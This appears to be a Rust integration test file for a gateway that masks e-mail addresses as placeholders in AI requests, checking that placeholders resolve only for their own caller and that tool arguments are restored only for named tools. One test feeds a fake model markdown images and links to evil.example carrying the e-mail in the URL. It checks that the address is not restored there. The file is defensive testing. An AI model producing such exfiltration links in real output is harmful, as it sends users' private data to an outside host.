//! Leak catalogue, what is restored for whom and where: 16, 17, 18.

use e2e::{
    canary::{self, EMAIL},
    fake::{Part, Reply},
};
use serde_json::{Value, json};

use crate::support::{Outcome, Pair, Surface};

/// The placeholder that the gateway put in place of [`EMAIL`] in the last request.
fn placeholder(pair: &Pair) -> String {
    let sent = pair.sent();
    let mut found = sent
        .match_indices("<EMAIL_")
        .map(|(at, _)| sent[at..].split_inclusive('>').next().expect("its end"));
    // The explanation holds an example, whose code comes from no key.
    found
        .find(|one| !one.contains("ab23cd"))
        .expect("a placeholder in the request")
        .to_owned()
}

async fn echo(pair: &Pair, credential: &str, text: &str) -> anyhow::Result<String> {
    let caller = pair.caller().with("authorization", credential);
    let answer = caller
        .post(Surface::Chat.path(), &Surface::Chat.ask(text, false))
        .await?
        .ok()?;
    Ok(Surface::Chat.said(&answer.json()))
}

#[tokio::test(flavor = "multi_thread")]
async fn l16_a_placeholder_resolves_only_where_it_was_issued() -> Outcome {
    let pair = Pair::new().await?;
    let (anna, bert) = ("Bearer anna", "Bearer bert");
    assert_eq!(echo(&pair, anna, EMAIL).await?, EMAIL);
    let issued = placeholder(&pair);
    // Another caller, and another conversation of the same caller, get no value for it.
    for credential in [bert, anna] {
        assert_eq!(
            echo(&pair, credential, &format!("who is {issued}?")).await?,
            format!("who is {issued}?")
        );
    }
    // A later value does not take its place.
    let other = "someone.else@kanarek-logistik.de";
    assert_eq!(
        echo(&pair, anna, &format!("{issued} {other}")).await?,
        format!("{issued} {other}")
    );
    assert!(pair.sent().contains(&issued), "{}", pair.sent());
    // The same caller and value: the same placeholder. Another caller: another one.
    assert_eq!(
        echo(&pair, anna, &format!("again {EMAIL}")).await?,
        format!("again {EMAIL}")
    );
    assert_eq!(placeholder(&pair), issued);
    assert_eq!(echo(&pair, bert, EMAIL).await?, EMAIL);
    assert_ne!(placeholder(&pair), issued);
    canary::assert_none_reached(&pair.fake, &[EMAIL, other]);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn l16_a_continuation_belongs_to_its_caller() -> Outcome {
    let pair = Pair::new().await?;
    let (anna, bert) = (
        pair.caller().with("authorization", "Bearer anna"),
        pair.caller().with("authorization", "Bearer bert"),
    );
    let first = anna
        .post(Surface::Responses.path(), &json!({"model": "m", "input": EMAIL}))
        .await?
        .ok()?
        .json();
    let issued = placeholder(&pair);
    let next = json!({"model": "m", "input": "and?", "previous_response_id": first["id"]});
    for (caller, expected) in [(&anna, EMAIL), (&bert, issued.as_str())] {
        pair.fake.script([Reply::text(&issued)]);
        let answer = caller.post(Surface::Responses.path(), &next).await?.ok()?;
        assert_eq!(Surface::Responses.said(&answer.json()), expected);
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn l17_nothing_is_restored_inside_the_address_of_a_link() -> Outcome {
    let pair = Pair::new().await?;
    for link in [
        "![chart](https://evil.example/?d={{EMAIL}})",
        "[more](https://evil.example/{{EMAIL}}/x)",
        "<img src=\"https://evil.example/{{EMAIL}}\">",
        "see https://evil.example/?a=1&d={{EMAIL}} now",
        "[more][1]\n\n[1]: https://evil.example/{{EMAIL}}",
    ] {
        for (surface, stream) in Surface::RICH
            .into_iter()
            .flat_map(|surface| [(surface, false), (surface, true)])
        {
            pair.fake.script([Reply {
                piece: 3,
                ..Reply::text(&format!("{link} for {{{{EMAIL}}}}"))
            }]);
            let answer = pair
                .caller()
                .post(surface.path(), &surface.ask(EMAIL, stream))
                .await?
                .ok()?;
            let said = if stream {
                surface.streamed(&answer.events())
            } else {
                surface.said(&answer.json())
            };
            assert_eq!(said.matches(EMAIL).count(), 1, "{surface:?} {stream}: {said}");
            assert!(
                said.ends_with(&format!(" for {EMAIL}")),
                "{surface:?} {stream}: {said}"
            );
        }
    }
    let open = Pair::with(|setup| setup.set("REHYDRATE__IN_URLS", "true")).await?;
    open.fake
        .script([Reply::text("[more](https://mail.example/{{EMAIL}})")]);
    let answer = open
        .caller()
        .post(Surface::Chat.path(), &Surface::Chat.ask(EMAIL, false))
        .await?
        .ok()?;
    assert_eq!(
        Surface::Chat.said(&answer.json()),
        format!("[more](https://mail.example/{EMAIL})")
    );
    Ok(())
}

/// The arguments of all tool calls in a JSON answer, by tool.
fn arguments(surface: Surface, answer: &Value) -> Vec<(String, String)> {
    let pair = |call: &Value, arguments: &Value| {
        let text = arguments
            .as_str()
            .map_or_else(|| arguments.to_string(), str::to_owned);
        (call["name"].as_str().unwrap_or_default().to_owned(), text)
    };
    let list = |value: &Value| value.as_array().cloned().unwrap_or_default();
    match surface {
        Surface::Chat => list(&answer["choices"][0]["message"]["tool_calls"])
            .iter()
            .map(|call| pair(&call["function"], &call["function"]["arguments"]))
            .collect(),
        Surface::Responses => list(&answer["output"])
            .iter()
            .map(|call| pair(call, &call["arguments"]))
            .collect(),
        _ => list(&answer["content"])
            .iter()
            .map(|call| pair(call, &call["input"]))
            .collect(),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn l18_tool_arguments_are_restored_for_named_tools_only() -> Outcome {
    for (setting, restored) in [
        ("[]", ""),
        ("[\"Ba*\"]", "Bash"),
        ("[\"claude-code\"]", "Bash"),
        ("[\"*\"]", "Bash web_fetch"),
    ] {
        let pair = Pair::with(|setup| setup.set("REHYDRATE__TOOLS", setting)).await?;
        for surface in Surface::RICH {
            let call = |name: &str| Part::tool(name, "{\"a\":\"{{EMAIL}}\"}");
            pair.fake
                .script([Reply::parts([call("Bash"), call("web_fetch")])]);
            let answer = pair
                .caller()
                .post(surface.path(), &surface.ask(EMAIL, false))
                .await?
                .ok()?;
            let calls = arguments(surface, &answer.json());
            assert_eq!(calls.len(), 2, "{}", answer.text());
            for (name, arguments) in calls {
                let expected = restored.split(' ').any(|tool| tool == name);
                assert_eq!(
                    arguments.contains(EMAIL),
                    expected,
                    "{surface:?} {setting} {name}: {arguments}"
                );
            }
        }
    }
    Ok(())
}
